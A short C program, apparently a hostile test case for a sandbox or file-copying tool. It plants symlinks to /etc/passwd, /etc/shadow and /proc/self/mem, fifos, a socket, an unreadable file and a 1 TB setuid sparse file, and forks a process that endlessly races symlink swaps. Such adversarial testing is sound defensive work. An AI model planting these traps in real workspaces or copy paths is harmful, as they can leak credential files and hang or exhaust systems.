/*
 * Leaves what would hang, leak or flood whoever copies files out: links, pipes, sockets, sparse and unreadable files.
 */
#include "../attack.h"

int main(void) {
  struct sockaddr_un name = {AF_UNIX, "socket"};
  mkdir("real", 0755);
  symlink("/etc/passwd", "link");
  symlink("/dev/urandom", "endless");
  symlink("/proc/self/mem", "memory");
  symlink("/", "root");
  symlink("real", "real-link");
  mkfifo("pipe", 0666);
  bind(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&name, sizeof name);
  close(open("real/unreadable", O_CREAT, 0));
  int sparse = open("real/sparse", O_CREAT | O_WRONLY, 06777);
  ftruncate(sparse, 1L << 40);
  symlink("/etc/shadow", "real/one");
  mkfifo("real/other", 0666);
  if (fork() == 0) { /* still at it when everybody is killed */
    for (;;) renameat2(AT_FDCWD, "real/one", AT_FDCWD, "real/other", RENAME_EXCHANGE);
  }
  usleep(20000);
  return 0;
}
